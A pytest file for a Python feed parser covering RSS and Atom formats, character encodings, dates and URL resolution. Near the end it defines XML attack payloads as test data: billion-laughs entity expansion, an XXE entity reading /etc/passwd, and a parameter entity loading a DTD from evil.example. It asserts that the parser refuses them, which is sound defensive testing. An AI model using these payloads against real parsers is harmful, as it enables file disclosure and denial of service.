"""Tests for feedwarehouse.parse.feed: feedparser output turned into raw-layer records."""

# Curly quotes and dashes are deliberate: real feeds carry them.
# ruff: noqa: RUF001

from __future__ import annotations

import json
from datetime import datetime
from pathlib import Path

import feedparser
import pytest

from feedwarehouse.parse.feed import (
    FeedParseError,
    ParsedEntry,
    ParsedFeed,
    count_entries,
    parse_feed,
)
from feedwarehouse_dev.sample import generate_sample

CONTENT_HTML = (
    '<p>Hello <a href="/relative/">there</a></p>\n'
    '<script async src="https://platform.twitter.com/widgets.js"></script>'
    '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>'
)
WORDPRESS_RSS = f"""<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
    xmlns:content="http://purl.org/rss/1.0/modules/content/"
    xmlns:wfw="http://wellformedweb.org/CommentAPI/"
    xmlns:dc="http://purl.org/dc/elements/1.1/"
    xmlns:slash="http://purl.org/rss/1.0/modules/slash/">
<channel>
    <title>BlogGeek.me — WebRTC &amp; CPaaS</title>
    <link>https://bloggeek.example.com</link>
    <description>Analysis &amp; opinions</description>
    <language>en-US</language>
    <generator>https://wordpress.org/?v=6.7.1</generator>
    <item>
        <title>Why “SFU” isn’t the answer – Ünïcödé 🚀</title>
        <link>https://bloggeek.example.com/2026/11/23/why-sfu/</link>
        <comments>https://bloggeek.example.com/2026/11/23/why-sfu/#respond</comments>
        <dc:creator><![CDATA[Tsahi Levent-Levi]]></dc:creator>
        <pubDate>Mon, 23 Nov 2026 14:30:00 +0200</pubDate>
        <category><![CDATA[WebRTC]]></category>
        <category><![CDATA[Video Conferencing]]></category>
        <category><![CDATA[Q&A]]></category>
        <guid isPermaLink="false">https://bloggeek.example.com/?p=4242</guid>
        <description><![CDATA[Short excerpt [&#8230;]]]></description>
        <content:encoded><![CDATA[{CONTENT_HTML}]]></content:encoded>
        <wfw:commentRss>https://bloggeek.example.com/2026/11/23/why-sfu/feed/</wfw:commentRss>
        <slash:comments>17</slash:comments>
        <enclosure url="https://bloggeek.example.com/a.mp3" length="1" type="audio/mpeg"/>
    </item>
    <item>
        <title>Bare item</title>
        <slash:comments>lots</slash:comments>
    </item>
</channel>
</rss>
""".encode()

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de">
  <title>Atom Blog</title>
  <subtitle>Notizen</subtitle>
  <link href="https://atom.example.org/"/>
  <id>urn:uuid:feed-1</id>
  <updated>2026-11-20T08:00:00Z</updated>
  <entry>
    <title>Größe zählt</title>
    <link href="https://atom.example.org/2026/groesse"/>
    <id>tag:atom.example.org,2026:1</id>
    <author><name>Jürgen Beispiel</name></author>
    <published>2026-11-19T23:15:00-05:00</published>
    <updated>2026-11-20T08:00:00Z</updated>
    <category term="Codecs"/>
    <category term="AV1"/>
    <summary>Kurz</summary>
    <content type="html">&lt;p&gt;Lang &lt;b&gt;und&lt;/b&gt; breit&lt;/p&gt;</content>
  </entry>
</feed>
""".encode()


@pytest.fixture(scope="module")
def wordpress() -> list[ParsedEntry]:
    return parse_feed(WORDPRESS_RSS, source="https://bloggeek.example.com/feed/").entries


def test_feed_metadata() -> None:
    feed = parse_feed(WORDPRESS_RSS, source="s")
    assert feed.title == "BlogGeek.me — WebRTC & CPaaS"
    assert feed.link == "https://bloggeek.example.com"
    assert feed.subtitle == "Analysis & opinions"
    assert feed.language == "en-US"
    assert feed.generator == "https://wordpress.org/?v=6.7.1"
    assert feed.bozo_reason is None
    meta = json.loads(feed.feed_json)
    assert meta["version"] == "rss20"
    assert meta["title"] == "BlogGeek.me — WebRTC & CPaaS"
    assert len(feed.entries) == 2


def test_wordpress_item_fields(wordpress: list[ParsedEntry]) -> None:
    entry = wordpress[0]
    assert entry.guid == "https://bloggeek.example.com/?p=4242"
    assert entry.link == "https://bloggeek.example.com/2026/11/23/why-sfu/"
    assert entry.title == "Why “SFU” isn’t the answer – Ünïcödé 🚀"
    assert entry.author == "Tsahi Levent-Levi"
    assert entry.categories == ["WebRTC", "Video Conferencing", "Q&A"]
    assert entry.summary == "Short excerpt [&#8230;]"  # HTML inside CDATA, kept as sent
    assert entry.comments_count == 17
    assert entry.enclosure_count == 1


def test_published_offset_converted_to_naive_utc(wordpress: list[ParsedEntry]) -> None:
    entry = wordpress[0]
    assert entry.published == "Mon, 23 Nov 2026 14:30:00 +0200"
    assert entry.published_at == datetime(2026, 11, 23, 12, 30)
    assert entry.published_at.tzinfo is None
    # an RSS item has no update date: not filled in from pubDate
    assert entry.updated is None
    assert entry.updated_at is None


def test_content_html_kept_unsanitized(wordpress: list[ParsedEntry]) -> None:
    assert wordpress[0].content == CONTENT_HTML
    assert '<script async src="https://platform.twitter.com/widgets.js"></script>' in (
        wordpress[0].content or ""
    )


def test_entry_json_keeps_every_field(wordpress: list[ParsedEntry]) -> None:
    raw = json.loads(wordpress[0].entry_json)
    assert raw["id"] == "https://bloggeek.example.com/?p=4242"
    assert raw["slash_comments"] == "17"
    assert raw["wfw_commentrss"] == "https://bloggeek.example.com/2026/11/23/why-sfu/feed/"
    assert raw["published"] == "Mon, 23 Nov 2026 14:30:00 +0200"
    assert "updated" not in raw
    assert raw["title"] == "Why “SFU” isn’t the answer – Ünïcödé 🚀"  # ensure_ascii=False
    assert "Ünïcödé" in wordpress[0].entry_json


def test_bare_item_has_empty_fields(wordpress: list[ParsedEntry]) -> None:
    entry = wordpress[1]
    assert entry.title == "Bare item"
    assert (entry.guid, entry.link, entry.author, entry.published, entry.published_at) == (
        None,
        None,
        None,
        None,
        None,
    )
    assert entry.categories == []
    assert entry.content is None
    assert entry.summary is None
    assert entry.comments_count is None  # "lots" is not a number
    assert entry.enclosure_count == 0


def test_generated_sample_feed(tmp_path: Path) -> None:
    sample = generate_sample(tmp_path, feeds=1, items=3)
    spec = sample.feeds[0]
    feed = parse_feed(spec.path.read_bytes(), source=spec.path.as_uri())
    assert feed.title == spec.title
    assert feed.link == spec.site_url
    assert [e.guid for e in feed.entries] == [i.guid for i in spec.items]
    for entry, item in zip(feed.entries, spec.items, strict=True):
        assert entry.link == item.link
        assert entry.title == item.title
        assert entry.author == item.author
        assert entry.categories == list(item.categories)
        assert entry.published_at == item.published_at.replace(tzinfo=None)
        assert entry.updated_at is None
        assert entry.comments_count == item.comments_count
        assert entry.content is not None
        assert entry.content.startswith("<h2>")


def test_atom_feed() -> None:
    feed = parse_feed(ATOM, source="atom")
    assert (feed.title, feed.subtitle, feed.link, feed.language) == (
        "Atom Blog",
        "Notizen",
        "https://atom.example.org/",
        "de",
    )
    assert json.loads(feed.feed_json)["version"] == "atom10"
    [entry] = feed.entries
    assert entry.guid == "tag:atom.example.org,2026:1"
    assert entry.link == "https://atom.example.org/2026/groesse"
    assert entry.title == "Größe zählt"
    assert entry.author == "Jürgen Beispiel"
    assert entry.published_at == datetime(2026, 11, 20, 4, 15)
    assert entry.updated_at == datetime(2026, 11, 20, 8, 0)
    assert entry.categories == ["Codecs", "AV1"]
    assert entry.summary == "Kurz"
    assert entry.content == "<p>Lang <b>und</b> breit</p>"
    assert entry.comments_count is None


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        (b"garbage \x00\xff not a feed", r"SAXParseException: .*"),
        (b"", "no feed elements"),
        (b"<html><body><p>Not found</p></body></html>", "no feed elements"),
    ],
    ids=["garbage", "empty", "html"],
)
def test_not_a_feed_raises(payload: bytes, reason: str) -> None:
    message = rf"^https://x\.example/feed: not a recognizable RSS/Atom/JSON feed \({reason}\)$"
    with pytest.raises(FeedParseError, match=message):
        parse_feed(payload, source="https://x.example/feed")


def test_bozo_feed_with_entries_is_kept() -> None:
    truncated = WORDPRESS_RSS[: WORDPRESS_RSS.index(b"<item>\n        <title>Bare")]
    feed = parse_feed(truncated, source="s")
    assert feed.bozo_reason is not None
    assert feed.bozo_reason.startswith("SAXParseException: ")
    assert [e.guid for e in feed.entries] == ["https://bloggeek.example.com/?p=4242"]
    assert feed.entries[0].comments_count == 17


def test_valid_feed_without_entries_is_kept() -> None:
    empty = b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title></channel></rss>'
    feed = parse_feed(empty, source="s")
    assert (feed.title, feed.bozo_reason, feed.entries) == ("t", None, [])


def test_out_of_range_date_is_none() -> None:
    rss = (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item>'
        b"<title>x</title><pubDate>not a date</pubDate></item></channel></rss>"
    )
    [entry] = parse_feed(rss, source="s").entries
    assert entry.published == "not a date"
    assert entry.published_at is None


RSS_091 = (
    b'<?xml version="1.0" encoding="ISO-8859-1"?>\n'
    b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
    b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
    b'<rss version="0.91"><channel><title>Old \xe9t\xe9</title><link>http://old.example.com/</link>'
    b"<description>d</description><language>fr</language><item><title>Caf\xe9 &amp; cr\xe8me"
    b"</title><link>/2001/cafe.html</link><description>x</description></item></channel></rss>"
)
RSS_10 = b"""<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
    xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://rdf.example.net/"><title>RDF Blog</title>
<link>https://rdf.example.net/</link><description>d</description></channel>
<item rdf:about="https://rdf.example.net/a"><title>A</title><link>https://rdf.example.net/a</link>
<dc:date>2026-11-20T10:00:00+01:00</dc:date><dc:creator>Ann</dc:creator>
<dc:subject>Topic</dc:subject></item>
</rdf:RDF>"""
ATOM_03 = b"""<?xml version="1.0" encoding="utf-8"?>
<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>Atom03</title>
<link rel="alternate" type="text/html" href="https://a03.example.org/"/>
<modified>2005-07-31T12:29:29Z</modified>
<entry><title>Old entry</title><link rel="alternate" type="text/html" href="https://a03.example.org/1"/>
<id>tag:a03.example.org,2005:1</id><issued>2005-07-31T12:29:29Z</issued>
<modified>2005-07-31T12:29:29Z</modified><author><name>Old</name></author></entry></feed>"""


def _version(feed: ParsedFeed) -> tuple[str, str]:
    meta = json.loads(feed.feed_json)
    return meta["version"], meta["encoding"]


def test_rss_091_with_doctype_latin1_and_relative_link() -> None:
    feed = parse_feed(RSS_091, source="https://old.example.com/rss.xml")
    assert _version(feed) == ("rss091n", "iso-8859-1")
    assert (feed.title, feed.link, feed.language, feed.bozo_reason) == (
        "Old été",
        "http://old.example.com/",
        "fr",
        None,
    )
    [entry] = feed.entries
    assert (entry.guid, entry.link, entry.title, entry.published_at) == (
        None,
        "http://old.example.com/2001/cafe.html",
        "Café & crème",
        None,
    )
    # the raw record's URLs are absolute too (issue 23); its guid stays as sent
    assert json.loads(entry.entry_json)["link"] == "http://old.example.com/2001/cafe.html"


def test_rss_10_rdf() -> None:
    feed = parse_feed(RSS_10, source="s")
    assert _version(feed) == ("rss10", "utf-8")
    assert (feed.title, feed.link) == ("RDF Blog", "https://rdf.example.net/")
    [entry] = feed.entries
    assert (entry.guid, entry.link, entry.title, entry.author, entry.categories) == (
        "https://rdf.example.net/a",
        "https://rdf.example.net/a",
        "A",
        "Ann",
        ["Topic"],
    )
    # dc:date is feedparser's `updated`; the raw layer keeps it there, unparsed into published
    assert (entry.published, entry.updated) == (None, "2026-11-20T10:00:00+01:00")
    assert entry.updated_at == datetime(2026, 11, 20, 9, 0)


def test_atom_03() -> None:
    feed = parse_feed(ATOM_03, source="s")
    assert _version(feed) == ("atom03", "utf-8")
    [entry] = feed.entries
    assert (entry.guid, entry.link, entry.author, entry.published_at, entry.updated_at) == (
        "tag:a03.example.org,2005:1",
        "https://a03.example.org/1",
        "Old",
        datetime(2005, 7, 31, 12, 29, 29),
        datetime(2005, 7, 31, 12, 29, 29),
    )


def _rss(items: str, *, encoding: str = "utf-8", declaration: bool = True) -> str:
    head = f'<?xml version="1.0" encoding="{encoding}"?>' if declaration else ""
    return (
        f'{head}<rss version="2.0"><channel><title>Grüße</title><link>https://blog.example.com</link>'
        f"{items}</channel></rss>"
    )


def test_windows_1252_declared_in_the_document() -> None:
    payload = _rss("<item><title>“quoted” – dash €</title></item>", encoding="windows-1252")
    for content_type in (None, "text/xml; charset=utf-8"):  # a wrong header does not win
        feed = parse_feed(payload.encode("cp1252"), source="s", content_type=content_type)
        assert _version(feed) == ("rss20", "windows-1252")
        assert feed.entries[0].title == "“quoted” – dash €"


@pytest.mark.parametrize(
    "content_type",
    ["application/rss+xml; charset=ISO-8859-1", "text/xml", None],
    ids=["wrong-charset", "no-charset", "no-header"],
)
def test_utf8_body_with_a_wrong_or_missing_charset_header(content_type: str | None) -> None:
    payload = _rss("<item><title>Ünï “q”</title></item>", declaration=False).encode()
    feed = parse_feed(payload, source="s", content_type=content_type)
    assert (feed.title, feed.entries[0].title, feed.bozo_reason) == ("Grüße", "Ünï “q”", None)


def test_undeclared_latin1_body_uses_the_header_charset() -> None:
    payload = _rss("<item><title>é</title></item>", declaration=False).encode("latin-1")
    feed = parse_feed(payload, source="s", content_type="text/xml; charset=ISO-8859-1")
    assert (feed.title, feed.entries[0].title, feed.bozo_reason) == ("Grüße", "é", None)
    # without a charset: windows-1252 (what browsers assume), never a guess, and noted
    for content_type in (None, "text/xml", "text/xml; charset=utf-8"):
        assumed = parse_feed(payload, source="s", content_type=content_type)
        assert (assumed.title, assumed.entries[0].title) == ("Grüße", "é")
        assert assumed.bozo_reason == (
            "CharacterEncodingOverride: not valid utf-8 and no usable charset; read as windows-1252"
        )


def test_relative_links_resolve_against_the_feed_link() -> None:
    items = (
        "<item><title>root</title><link>/2026/a/</link></item>"
        "<item><title>rel</title><link>b/</link></item>"
        "<item><title>abs</title><link>https://other.example.org/c</link></item>"
        '<item><title>guid</title><guid isPermaLink="true">post-4</guid></item>'
    )
    feed = parse_feed(_rss(items).encode(), source="https://feeds.example.net/blog.xml")
    assert [entry.link for entry in feed.entries] == [
        "https://blog.example.com/2026/a/",
        "https://blog.example.com/b/",
        "https://other.example.org/c",
        "post-4",  # a relative guid copied into link by feedparser is not made up into a URL
    ]


def test_relative_feed_link_resolves_against_the_source() -> None:
    payload = (
        b'<rss version="2.0"><channel><title>t</title><link>/</link>'
        b"<item><title>x</title><link>/p/1</link></item></channel></rss>"
    )
    feed = parse_feed(payload, source="https://feeds.example.net/blog.xml")
    assert (feed.link, feed.entries[0].link) == (
        "https://feeds.example.net/",
        "https://feeds.example.net/p/1",
    )


def test_duplicate_guids_entities_enclosures_and_category_schemes() -> None:
    items = (
        "<item><title>Tom &amp; Jerry &#8217;s &lt;b&gt;</title><guid>dup</guid>"
        '<category domain="https://blog.example.com/tags">Tag A</category><category>B</category>'
        '<enclosure url="https://blog.example.com/1.mp3" length="1" type="audio/mpeg"/>'
        '<enclosure url="https://blog.example.com/2.mp3" length="2" type="audio/mpeg"/></item>'
        "<item><title>again</title><guid>dup</guid></item>"
    )
    feed = parse_feed(_rss(items).encode(), source="s")
    assert [(e.guid, e.title) for e in feed.entries] == [
        ("dup", "Tom & Jerry ’s <b>"),
        ("dup", "again"),
    ]
    first = feed.entries[0]
    assert (first.categories, first.enclosure_count) == (["Tag A", "B"], 2)
    tags = json.loads(first.entry_json)["tags"]
    assert tags == [
        {"label": None, "scheme": "https://blog.example.com/tags", "term": "Tag A"},
        {"label": None, "scheme": None, "term": "B"},
    ]


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE rss [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n'
        % (i, b"".join(b"&lol%s;" % (b"" if i == 1 else str(i - 1).encode()) for _ in range(10)))
        for i in range(1, 10)
    )
    + b']>\n<rss version="2.0"><channel><title>&lol9;</title>'
    b"<item><title>x</title></item></channel></rss>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<rss version="2.0"><channel><title>&xxe;</title><item><title>&xxe;</title></item>'
    b"</channel></rss>"
)


@pytest.mark.parametrize(
    ("payload", "shown"),
    [
        (BILLION_LAUGHS, '<!ENTITY lol "lol">'),
        (EXTERNAL_ENTITY, '<!ENTITY xxe SYSTEM "file:///etc/passwd">'),
        (
            EXTERNAL_ENTITY.decode().encode("utf-16"),
            '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
        ),
        (b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>', ""),
    ],
    ids=["billion-laughs", "external-entity", "external-entity-utf16", "parameter-entity"],
)
def test_entity_declarations_are_refused_before_parsing(payload: bytes, shown: str) -> None:
    with pytest.raises(FeedParseError) as caught:
        parse_feed(payload, source="https://evil.example/feed")
    message = str(caught.value)
    assert message.startswith("https://evil.example/feed: refused: the DOCTYPE declares an XML ")
    assert message.endswith(
        "entity expansion and external entities are unsafe and never needed by a feed"
    )
    assert shown in message


def test_feedparser_itself_does_not_expand_entities() -> None:
    # the second line of defence, should the guard ever miss: feedparser strips the DOCTYPE
    parsed = feedparser.parse(EXTERNAL_ENTITY, sanitize_html=False, resolve_relative_uris=False)
    assert "root:" not in json.dumps(parsed, default=str)
    laughs = feedparser.parse(BILLION_LAUGHS, sanitize_html=False, resolve_relative_uris=False)
    assert laughs.feed.title == "&lol9;"


def test_character_entities_and_entities_in_cdata_or_comments_are_allowed() -> None:
    payload = (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY nbsp "&#160;"> <!ENTITY euro "&#x20AC;">'
        b'<!-- <!ENTITY x SYSTEM "file:///etc/passwd"> -->]><rss version="2.0"><channel>'
        b"<title>t</title><item><title>x</title><description><![CDATA[How XXE works: "
        b'<!ENTITY xxe SYSTEM "file:///etc/passwd">]]></description></item></channel></rss>'
    )
    [entry] = parse_feed(payload, source="s").entries
    assert entry.summary == 'How XXE works: <!ENTITY xxe SYSTEM "file:///etc/passwd">'


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        (b'<rss version="2.0"><channel><item><title>a</title></item><item/></channel></rss>', 2),
        (b'<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry/></feed>', 1),
        (b'<rss version="2.0"><channel><title>past the last page</title></channel></rss>', 0),
        (b"<html><body>not found</body></html>", 0),
        # not well-formed (an unclosed <br>): expat cannot read it, feedparser's full parse does
        (b'<rss version="2.0"><channel><item><title>a<br></title></item></channel></rss>', 1),
    ],
    ids=["rss", "atom", "empty-page", "not-a-feed", "malformed"],
)
def test_count_entries_pages_an_archive_without_a_full_parse(payload: bytes, expected: int) -> None:
    assert count_entries(payload, source="https://a.example/feed/?paged=2") == expected


def test_relative_urls_in_a_body_resolve_against_every_xml_base() -> None:
    """Issue 23: images and links of a body are absolute, through nested relative xml:base,
    then the feed's URL (the document has no absolute base); a body of absolute URLs is kept
    byte for byte."""
    payload = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="/blog/"><title>t</title><id>f</id>
<entry xml:base="2024/"><id>1</id><title>a</title><link href="a.html"/>
<content type="html">&lt;p&gt;&lt;img src="img/chart.png" alt="c"&gt;
&lt;a href="../b.html"&gt;b&lt;/a&gt;
&lt;a href="#top"&gt;top&lt;/a&gt; &lt;a href="mailto:x@e.org"&gt;m&lt;/a&gt;&lt;/p&gt;</content>
</entry>
<entry><id>2</id><title>b</title><link href="b.html"/>
<content type="html">&lt;p&gt;&lt;img src="https://cdn.example.org/x.png"&gt;&lt;/p&gt;</content>
</entry></feed>"""
    first, second = parse_feed(payload, source="https://site.example/feeds/atom.xml").entries
    assert first.link == "https://site.example/blog/2024/a.html"
    assert first.body_html == (
        '<p><img src="https://site.example/blog/2024/img/chart.png" alt="c">\n'
        '<a href="https://site.example/blog/b.html">b</a>\n<a href="#top">top</a> '
        '<a href="mailto:x@e.org">m</a></p>'
    )
    assert second.body_html == '<p><img src="https://cdn.example.org/x.png"></p>'


def test_enclosure_image_and_media_urls_of_the_raw_record_are_absolute() -> None:
    items = (
        '<item><title>m</title><link>p/1</link><enclosure url="media/1.mp3" length="1" '
        'type="audio/mpeg"/><itunes:image href="img/1.jpg"/>'
        '<media:thumbnail url="/thumbs/1.jpg"/></item>'
    )
    payload = _rss(items).replace(
        '<rss version="2.0">',
        '<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" '
        'xmlns:media="http://search.yahoo.com/mrss/">',
    )
    [entry] = parse_feed(payload.encode(), source="https://feeds.example.net/x.xml").entries
    record = json.loads(entry.entry_json)
    assert entry.link == "https://blog.example.com/p/1"
    assert [link["href"] for link in record["links"]] == [
        "https://blog.example.com/p/1",
        "https://blog.example.com/media/1.mp3",
    ]
    assert record["image"]["href"] == "https://blog.example.com/img/1.jpg"
    assert record["media_thumbnail"] == [{"url": "https://blog.example.com/thumbs/1.jpg"}]
